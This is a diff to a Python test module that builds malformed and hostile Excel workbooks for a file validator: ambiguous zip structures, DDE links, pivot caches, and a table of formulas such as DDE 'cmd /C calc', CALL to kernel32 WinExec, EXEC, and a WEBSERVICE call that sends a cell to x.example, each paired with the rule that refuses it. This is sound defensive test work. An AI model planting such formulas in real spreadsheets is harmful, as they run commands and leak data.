@@ -423,6 +423,7 @@ def _doctype_in_odd_part() -> bytes:
 
 _MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
 _XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+_PIVOT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"
 _LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
 _MS_REL_NS = "http://schemas.microsoft.com/office/2006/relationships"
 _SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
@@ -435,6 +436,159 @@ def _valid_without(name: str) -> bytes:
     parts = xlsx_parts(valid_xlsx_bytes())
     del parts[name]
     return rezip(parts)
+
+
+# --- ambiguous zips: two readers, two contents ---------------------------------------------------
+
+
+def _end_record(data: bytes) -> tuple[int, tuple[int, ...]]:
+    at = data.rindex(b"PK\x05\x06")
+    return at, _END.unpack_from(data, at)
+
+
+def _hidden_member() -> bytes:
+    """A local header and data that no directory entry names, between the members and the
+    directory: a streaming reader finds an extra sheet the directory never shows."""
+    data = valid_xlsx_bytes()
+    at, fields = _end_record(data)
+    start = fields[6]
+    hidden = build_zip([member("xl/worksheets/sheet9.xml", b"<worksheet/>")])
+    hidden = hidden[: hidden.index(b"PK\x01\x02")]
+    moved = _END.pack(*fields[:6], start + len(hidden), fields[7])
+    return data[:start] + hidden + data[start:at] + moved + data[at + _END.size :]
+
+
+def _prefixed() -> bytes:
+    """A member of another zip before the workbook: zipfile shifts every offset past it."""
+    other = build_zip([member("xl/worksheets/sheet1.xml", b"<worksheet/>")])
+    return other[: other.index(b"PK\x01\x02")] + valid_xlsx_bytes()
+
+
+def _second_end_record() -> bytes:
+    """A second end record after the first: zipfile reads the last, others the first."""
+    data = valid_xlsx_bytes()
+    at, _ = _end_record(data)
+    return data + data[at:]
+
+
+def _local_header_patched(offset: int, value: int) -> bytes:
+    """The first member's local header with one 16- or 32-bit field changed (directory kept)."""
+    data = bytearray(valid_xlsx_bytes())
+    width = 2 if offset < 14 else 4
+    data[offset : offset + width] = value.to_bytes(width, "little")
+    return bytes(data)
+
+
+class _Stream(io.RawIOBase):
+    """A file that cannot seek: zipfile then writes sizes in data descriptors after the data,
+    as streaming writers (and some spreadsheet tools) do."""
+
+    def __init__(self) -> None:
+        self.data = bytearray()
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, chunk: bytes) -> int:  # type: ignore[override]
+        self.data += chunk
+        return len(chunk)
+
+
+@functools.cache
+def streamed_xlsx() -> bytes:
+    """The valid workbook written as a stream: every member followed by a data descriptor."""
+    stream = _Stream()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in xlsx_parts(valid_xlsx_bytes()).items():
+            archive.writestr(name, content)
+    return bytes(stream.data)
+
+
+def _descriptor_lies() -> bytes:
+    """The first data descriptor declares another CRC than the directory does."""
+    data = bytearray(streamed_xlsx())
+    at = data.index(b"PK\x07\x08") + 4
+    data[at : at + 4] = b"\xde\xad\xbe\xef"
+    return bytes(data)
+
+
+def _overlapping_entries() -> bytes:
+    """A second directory entry, under another name, pointing at the first member's bytes."""
+    data = valid_xlsx_bytes()
+    at, fields = _end_record(data)
+    first = fields[6]
+    name_size, extra_size, comment_size = struct.unpack_from("<3H", data, first + 28)
+    entry = bytearray(data[first : first + 46 + name_size + extra_size + comment_size])
+    entry[46] = ord("Y") if entry[46] != ord("Y") else ord("Z")  # another name, same length
+    moved = _END.pack(*fields[:3], fields[3] + 1, fields[4] + 1, fields[5] + len(entry), first, 0)
+    return data[:first] + bytes(entry) + data[first:at] + moved
+
+
+def _sheet_with_cell(cell_xml: str) -> bytes:
+    """The valid workbook with raw XML of one more row (cells, formulas) in its sheet."""
+    row = f'<row r="9">{cell_xml}</row>'.encode()
+    sheet = _valid_part(SHEET).replace(b"</sheetData>", row + b"</sheetData>")
+    return _variant(add={SHEET: sheet})
+
+
+def _defined_name(formula: str) -> bytes:
+    names = f'<definedNames><definedName name="Sumber">{formula}</definedName></definedNames>'
+    workbook = _valid_part(WORKBOOK).replace(b"<definedNames />", names.encode())
+    assert workbook != _valid_part(WORKBOOK)
+    return _variant(add={WORKBOOK: workbook})
+
+
+def _hyperlink(target: str) -> bytes:
+    return _variant(
+        add={_SHEET_RELS: _rels_part(_relationship("rId1", "hyperlink", target, external=True))}
+    )
+
+
+# A formula in a cell, as XML, and the rule that refuses it.
+ACTIVE_FORMULAS: dict[str, tuple[str, str]] = {
+    "dde_cmd": ("<f>cmd|' /C calc'!A0</f>", "safety.dde"),
+    "dde_function": ('<f>DDE("cmd";"/C calc";"A0")</f>', "safety.dde"),
+    "ddeauto": ('<f>DDEAUTO("cmd","/C calc")</f>', "safety.dde"),
+    "webservice": ('<f>_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)</f>', "safety.active_formula"),
+    "filterxml": ('<f>_xlfn.FILTERXML(A1,"//a")</f>', "safety.active_formula"),
+    "call": ('<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>', "safety.active_formula"),
+    "register": ('<f>REGISTER("kernel32","WinExec")</f>', "safety.active_formula"),
+    "exec": ('<f>EXEC("calc.exe")</f>', "safety.active_formula"),
+    "rtd": ('<f>RTD("prog.id",,"topic")</f>', "safety.active_formula"),
+    "xll_function": ("<f>_xll.Evil(1)</f>", "safety.active_formula"),
+    "hyperlink_to_file": (
+        '<f>HYPERLINK("file:///C:/Windows/calc.exe","x")</f>',
+        "safety.file_link",
+    ),
+    "hyperlink_to_share": ('<f>HYPERLINK("\\\\srv\\s\\a.exe")</f>', "safety.file_link"),
+    "character_references": ("<f>&#87;EBSERVICE(A1)</f>", "safety.active_formula"),
+    "prefixed_element": (
+        f'<x:f xmlns:x="{MAIN_NS}">WEBSERVICE(A1)</x:f>',
+        "safety.active_formula",
+    ),
+    "external_index": ("<f>[1]Sheet1!A1</f>", "safety.external_link"),
+    "external_path": ("<f>'C:\\data\\[x.xlsx]S'!A1</f>", "safety.external_link"),
+}
+# What a defined name may refer to elsewhere, and the rule.
+EXTERNAL_NAMES: dict[str, tuple[str, str]] = {
+    "index": ("[1]Sheet1!$A$1", "safety.external_link"),
+    "drive_path": ("'C:\\data\\[x.xlsx]S'!$A$1", "safety.external_link"),
+    "file_url": ("'file:///C:/data/[x.xlsx]S'!$A$1", "safety.external_link"),
+    "unc_path": ("\\\\server\\share\\[x.xlsx]S!$A$1", "safety.external_link"),
+    "dde": ("cmd|'/C calc'!A0", "safety.dde"),
+}
+# Hyperlink targets (external relationships of a sheet) and whether they are refused.
+HYPERLINKS: dict[str, bool] = {
+    "https://disdukcapil.jenepontokab.go.id/": False,
+    "mailto:perencanaan@example.go.id": False,
+    "file:///C:/Windows/System32/calc.exe": True,
+    "FILE:///c:/x.txt": True,
+    "%66ile:///c:/x.txt": True,
+    "\\\\server\\share\\x.xlsx": True,
+    "//server/share/x.xlsx": True,
+    "C:\\data\\x.xlsx": True,
+    "laporan_lama.xlsx": True,  # relative: opened from the folder the workbook lies in
+}
 
 
 CASES: dict[str, Callable[[], bytes]] = {
@@ -470,6 +624,17 @@ CASES: dict[str, Callable[[], bytes]] = {
     "zip_password": lambda: build_zip(
         Member(m.name, m.payload, m.size, m.crc, flags=0x1) for m in _members()
     ),
+    # ambiguous zips
+    "two_zips_concatenated": lambda: valid_xlsx_bytes() + valid_xlsx_bytes(),
+    "bytes_before_first_member": _prefixed,
+    "second_end_record": _second_end_record,
+    "member_hidden_before_directory": _hidden_member,
+    "streamed_with_descriptors": streamed_xlsx,
+    "data_descriptor_lies": _descriptor_lies,
+    "overlapping_entries": _overlapping_entries,
+    "local_header_other_method": lambda: _local_header_patched(8, zipfile.ZIP_STORED),
+    "local_header_other_size": lambda: _local_header_patched(22, 1),
+    "local_header_other_crc": lambda: _local_header_patched(14, 0xDEADBEEF),
     # hostile zips
     "zip_bomb": _zip_bomb,
     "forged_size": lambda: _forged_size(fix_crc=False),
@@ -517,6 +682,22 @@ CASES: dict[str, Callable[[], bytes]] = {
         }
     ),
     "data_connection": lambda: _variant(add={"xl/connections.xml": b"<connections/>"}),
+    "pivot_cache": lambda: _variant(
+        add={"xl/pivotCache/pivotCacheDefinition1.xml": b"<pivotCacheDefinition/>"}
+    ),
+    "pivot_cache_renamed": lambda: _variant(
+        add={"xl/data1.xml": b"<pivotCacheDefinition/>"},
+        types=_override("xl/data1.xml", _PIVOT_TYPE),
+    ),
+    "chart_external_data": lambda: _variant(
+        add={
+            "xl/charts/chart1.xml": b'<c:chartSpace xmlns:c="urn:c"><c:externalData/>'
+            b"</c:chartSpace>"
+        }
+    ),
+    "dde_link_part": lambda: _variant(
+        add={"xl/links/l1.xml": b"<x><ddeLink ddeService='cmd'/></x>"}
+    ),
     # XML entity attacks
     "billion_laughs": _billion_laughs,
     "xxe_workbook": _xxe_workbook,
@@ -526,5 +707,13 @@ CASES: dict[str, Callable[[], bytes]] = {
     "doctype_across_chunks": _doctype_across_chunks,
     "doctype_in_odd_part": _doctype_in_odd_part,
 }
+CASES |= {
+    f"formula_{k}": functools.partial(_sheet_with_cell, f'<c r="A9">{v}</c>')
+    for k, (v, _) in ACTIVE_FORMULAS.items()
+}
+CASES |= {
+    f"defined_name_{k}": functools.partial(_defined_name, v) for k, (v, _) in EXTERNAL_NAMES.items()
+}
+CASES |= {f"hyperlink_{i}": functools.partial(_hyperlink, t) for i, t in enumerate(HYPERLINKS)}
 for _name in list(CASES):  # build each case once per session
     CASES[_name] = functools.cache(CASES[_name])
